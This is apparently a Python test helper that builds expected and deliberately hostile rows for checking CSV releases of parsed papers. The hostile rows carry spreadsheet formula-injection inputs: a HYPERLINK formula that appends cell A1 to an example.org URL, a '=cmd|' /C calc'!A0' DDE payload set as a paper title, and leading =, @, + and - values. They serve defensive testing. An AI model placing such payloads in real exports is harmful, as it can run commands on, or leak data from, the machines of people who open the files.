"""Releases made of the samples' expected CSVs and of a paper that prints what Excel would run."""

import csv
import json
from collections.abc import Iterator, Mapping
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

from flows.ingestion.run import open_run
from flows.settings import Settings
from flows.store.given import PAPERS, Given
from flows.store.journal import LEDGER
from flows.store.ledger import Entry
from flows.store.package import content_of, package_of
from flows.store.place import Store
from flows.store.stamp import stamp
from schemas.csv_text import from_csv_text, to_csv_text
from schemas.row import Row
from schemas.tables import PAPER_TABLES, Amount, Cell, Paper, Passage, TableRow

ROOT = Path(__file__).parents[1]
SAMPLES = sorted(path.parent for path in (ROOT / "samples").glob("*/expected"))
Tables = dict[type[Row], list[Row]]
RUN_BY_EXCEL = [
    '=HYPERLINK("http://example.org/?"&A1;"see here")',
    "@SUM(1)",
    "-2+3",
    "+41 22 799 61 11",
    "=1+1",
    "{=SUM(A1:A9)}",
    "_x0041_ is no escape",
    " a blank before, and behind ",
    "élève, œuvre, año, ÿ, 你好, 𝒳",
    'He said "no", <b>twice</b> & left',
    "http://example.org/#a",
    "032",
    "true",
    "NA",
    "1e5",
    "\N{REPLACEMENT CHARACTER} \uffff",
    "x" * 40_000,
]


def expected(sample: Path) -> Tables:
    """Return the rows that are expected of a sample."""
    return {
        row_type: list(from_csv_text(row_type, path.read_text("utf-8")))
        for row_type in PAPER_TABLES
        if (path := sample / "expected" / f"{row_type.table}.csv").is_file()
    }


def hostile() -> Tables:
    """Return the rows of a paper whose words are formulas, and whose figures are long."""
    paper_id = "gb399-pol-9-en"
    passages = [
        Passage(
            passage_id=f"{paper_id}#para_{at}", paper_id=paper_id, order=at, kind="paragraph",
            text=text, page=1, page_end=1, x0=1, top=2, x1=3, bottom=4,
        )
        for at, text in enumerate(RUN_BY_EXCEL, start=1)
    ]  # fmt: skip
    return {
        Paper: [
            Paper(
                paper_id=paper_id, symbol="GB.399/POL/9", session=399, language="en",
                title="=cmd|' /C calc'!A0", issued_on=date(1899, 12, 31), template="none",
                page_count=1, sha256="0" * 64, source_uri="hostile.pdf", extractor_version="0",
            )
        ],
        Passage: list(passages),
        Amount: [
            Amount(
                amount_id=f"{paper_id}#amount_{at}", paper_id=paper_id,
                passage_id=f"{paper_id}#para_1", start=0, end=1, text="=", currency="CHF",
                value=Decimal(value),
            )
            for at, value in enumerate(["0.1", "-1234567.89", "123456789012345"])
        ],
        TableRow: [
            TableRow(
                table_id=f"{paper_id}#tbl_1", paper_id=paper_id, order=1, number="=2",
                caption="@SUM(A1)", header_rows=1, header_columns=1, rows=1, columns=2,
                page=1, page_end=1,
            )
        ],
        Cell: [
            Cell(
                cell_id=f"{paper_id}#para_{at}", table_id=f"{paper_id}#tbl_1", page=1, row=1,
                column=at, text=RUN_BY_EXCEL[at - 1],
            )
            for at in (1, 2)
        ],
    }  # fmt: skip


def fill(store: Store, papers: Iterator[Tables]) -> None:
    """Write papers into an empty store, and into its ledger."""
    entries = []
    for number, tables in enumerate(papers, start=1):
        (paper,) = tables[Paper]
        assert isinstance(paper, Paper)
        files = {
            f"{t.table}.csv": to_csv_text(t, tables.get(t, ())).encode() for t in PAPER_TABLES
        }
        counts = {t.table: len(tables.get(t, ())) for t in PAPER_TABLES}
        given = Given(f"papers/{paper.paper_id}.pdf", paper.sha256, 1000)
        store.put_folder(
            f"{PAPERS}/{paper.paper_id}",
            package_of(files, counts, paper.paper_id, paper.title, given),
        )
        entries.append(
            Entry(
                sha256=paper.sha256, source_uri=given.source_uri, bytes=1000,
                paper_id=paper.paper_id, symbol=paper.symbol, language=paper.language,
                pages=paper.page_count, stamp=stamp(), content=content_of(files), order=number,
            )
        )  # fmt: skip
    store.put(LEDGER, to_csv_text(Entry, entries).encode())


def released(store: str, settings: Settings) -> str:
    """Publish a store and return the address of the release's folder."""
    with open_run(store, settings) as run:
        release = run.publish(accept=True)
    assert release is not None and release.fresh
    return f"{store}/releases/{release.release_id}"


def manifest(folder: Path) -> dict[str, Any]:
    """Return the descriptor of a release."""
    found: dict[str, Any] = json.loads((folder / "datapackage.json").read_text("utf-8"))
    return found


def typed(folder: Path, entry: Mapping[str, Any]) -> list[list[Any]]:
    """Return the rows of a CSV with the types of its Table Schema: what every form must hold."""
    kinds = [field["type"] for field in entry["schema"]["fields"]]
    with (folder / entry["path"]).open(encoding="utf-8", newline="") as file:
        header, *rows = csv.reader(file)
    assert header == [field["name"] for field in entry["schema"]["fields"]]
    return [[_value(kind, cell) for kind, cell in zip(kinds, row, strict=True)] for row in rows]


def _value(kind: str, cell: str) -> Any:
    if not cell:
        return None
    if kind == "boolean":
        return {"true": True, "false": False}[cell]
    if kind == "date":
        return date.fromisoformat(cell)
    return {"string": str, "integer": int, "number": float}[kind](cell)


